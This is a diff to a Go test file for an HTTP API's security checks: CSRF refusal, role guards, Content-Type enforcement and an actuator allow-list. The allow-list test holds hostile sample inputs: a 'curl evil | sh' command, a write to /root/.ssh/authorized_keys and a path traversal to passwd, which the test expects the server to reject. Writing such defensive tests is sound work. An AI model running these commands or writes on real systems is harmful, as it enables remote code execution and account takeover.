@@ -17,7 +17,7 @@ import (
 // refused with 403 before any handler runs; reads, and requests from the
 // CLI or Alertmanager (no browser headers), are not.
 func TestCrossOriginRequestsRefused(t *testing.T) {
-	h := New(nil, nil, allRoles) // no Temporal client: a request that reached a handler would fail otherwise
+	h := New(nil, nil, Options{Auth: allRoles}) // no Temporal client: a request that reached a handler would fail otherwise
 	tests := []struct {
 		name, method, path string
 		header             map[string]string
@@ -33,7 +33,7 @@ func TestCrossOriginRequestsRefused(t *testing.T) {
 			map[string]string{"Sec-Fetch-Site": "same-site"}, http.StatusForbidden},
 		// Alertmanager and the CLI send no browser headers: the webhook's own
 		// validation answers (an empty body is a 400), not the CSRF check.
-		{"a webhook without browser headers", http.MethodPost, "/v1/alerts", nil, http.StatusBadRequest},
+		{"a webhook without browser headers", http.MethodPost, "/v1/alerts", map[string]string{"Content-Type": "application/json"}, http.StatusBadRequest},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -62,7 +62,7 @@ func TestCrossOriginRequestsRefused(t *testing.T) {
 // connection.
 func TestPanicIsAJSONError(t *testing.T) {
 	rec := httptest.NewRecorder()
-	New(nil, nil, allRoles).ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/v1/targets", nil))
+	New(nil, nil, Options{Auth: allRoles}).ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/v1/targets", nil))
 	var body map[string]string
 	if rec.Code != http.StatusInternalServerError || json.Unmarshal(rec.Body.Bytes(), &body) != nil || body["error"] == "" {
 		t.Fatalf("%d %q, want 500 with a JSON error", rec.Code, rec.Body)
@@ -86,7 +86,9 @@ func TestApprovalBodyRefused(t *testing.T) {
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			rec := httptest.NewRecorder()
-			New(nil, nil, allRoles).ServeHTTP(rec, httptest.NewRequest(http.MethodPost, "/v1/passes/pass/svc/1/approval", strings.NewReader(tt.body)))
+			req := httptest.NewRequest(http.MethodPost, "/v1/passes/pass/svc/1/approval", strings.NewReader(tt.body))
+			req.Header.Set("Content-Type", "application/json")
+			New(nil, nil, Options{Auth: allRoles}).ServeHTTP(rec, req)
 			var body map[string]string
 			_ = json.Unmarshal(rec.Body.Bytes(), &body)
 			if rec.Code != http.StatusBadRequest || !strings.Contains(body["error"], tt.want) {
@@ -133,7 +135,7 @@ func TestRolesGuardEveryRoute(t *testing.T) {
 		{http.MethodPost, "/v1/passes/pass/svc/1/cancel", access.Operator},
 		{http.MethodPost, "/v1/passes/pass/svc/1/approval", access.Approver},
 	}
-	nobody := New(nil, prometheus.NewRegistry(), Auth{Identify: func(*http.Request) string { return "" }, Policy: allRoles.Policy})
+	nobody := New(nil, prometheus.NewRegistry(), Options{Auth: Auth{Identify: func(*http.Request) string { return "" }, Policy: allRoles.Policy}})
 	for _, rt := range routes {
 		t.Run(rt.method+" "+rt.path, func(t *testing.T) {
 			rec := httptest.NewRecorder()
@@ -148,13 +150,64 @@ func TestRolesGuardEveryRoute(t *testing.T) {
 					others = append(others, string(r))
 				}
 			}
-			h := New(nil, prometheus.NewRegistry(), Auth{Identify: func(*http.Request) string { return "eve" },
-				Policy: mustPolicy("users: {eve: [" + strings.Join(others, ", ") + "]}")})
+			h := New(nil, prometheus.NewRegistry(), Options{Auth: Auth{Identify: func(*http.Request) string { return "eve" },
+				Policy: mustPolicy("users: {eve: [" + strings.Join(others, ", ") + "]}")}})
 			rec = httptest.NewRecorder()
 			h.ServeHTTP(rec, httptest.NewRequest(rt.method, rt.path, strings.NewReader("{}")))
 			if rec.Code != http.StatusForbidden || !strings.Contains(rec.Body.String(), "eve does not hold the "+string(rt.role)+" role") {
 				t.Errorf("without %s: %d %q, want 403 naming the role", rt.role, rec.Code, rec.Body.String())
 			}
 		})
+	}
+}
+
+// TestBodiesNeedTheirContentType: a route that takes a body refuses one of
+// another media type with 415, before reading it.
+func TestBodiesNeedTheirContentType(t *testing.T) {
+	for _, tt := range []struct{ method, path, ctype string }{
+		{http.MethodPut, "/v1/targets/svc", "text/plain"},
+		{http.MethodPut, "/v1/targets/svc", ""},
+		{http.MethodPost, "/v1/alerts", "application/x-www-form-urlencoded"},
+		{http.MethodPost, "/v1/passes/pass/svc/1/approval", "text/plain"},
+	} {
+		req := httptest.NewRequest(tt.method, tt.path, strings.NewReader("{}"))
+		if tt.ctype != "" {
+			req.Header.Set("Content-Type", tt.ctype)
+		}
+		rec := httptest.NewRecorder()
+		New(nil, nil, Options{Auth: allRoles}).ServeHTTP(rec, req)
+		if rec.Code != http.StatusUnsupportedMediaType || !strings.Contains(rec.Body.String(), "Content-Type: expected") {
+			t.Errorf("%s %s as %q: %d %s, want 415 naming the expected type", tt.method, tt.path, tt.ctype, rec.Code, rec.Body)
+		}
+	}
+}
+
+// TestRequestsCannotNameArbitraryActuators: a target sent to the API may
+// run a command only from the server's allow-list and write files only
+// under its allowed directories; anything else is a 403 naming the field,
+// before anything is registered (the handler has no Temporal client).
+func TestRequestsCannotNameArbitraryActuators(t *testing.T) {
+	const base = `name: svc
+params: [{name: threads, type: int, min: 1, max: 64, current: 8}]
+objective: {metric: cost, goal: minimize}
+telemetry: {prometheus: {url: "http://127.0.0.1:9090"}, queries: {cost: "cost{cohort=\"{{.Cohort}}\"}"}}
+`
+	h := New(nil, nil, Options{Auth: allRoles, Commands: []string{"/usr/local/bin/apply-config"}, FileDirs: []string{"/etc/svc"}})
+	for _, tt := range []struct{ actuator, want string }{
+		{`{command: {argv: [/bin/sh, -c, "curl evil | sh"]}}`, `actuator.command.argv[0]: "/bin/sh" is not on the server's allow-list`},
+		{`{command: {argv: [apply-config]}}`, `"apply-config" is not on the server's allow-list`},
+		{`{file: {path: /root/.ssh/authorized_keys}}`, `actuator.file.path: "/root/.ssh/authorized_keys" is not under a directory the server allows`},
+		{`{file: {path: /etc/svc/../passwd}}`, "is not under a directory the server allows"},
+		{`{file: {path: etc/svc/conf.yaml}}`, "is not under a directory the server allows"},
+	} {
+		req := httptest.NewRequest(http.MethodPut, "/v1/targets/svc", strings.NewReader(base+"actuator: "+tt.actuator+"\n"))
+		req.Header.Set("Content-Type", "application/yaml")
+		rec := httptest.NewRecorder()
+		h.ServeHTTP(rec, req)
+		var body map[string]string
+		_ = json.Unmarshal(rec.Body.Bytes(), &body)
+		if rec.Code != http.StatusForbidden || !strings.Contains(body["error"], tt.want) {
+			t.Errorf("actuator %s: %d %s, want 403 saying %q", tt.actuator, rec.Code, rec.Body, tt.want)
+		}
 	}
 }
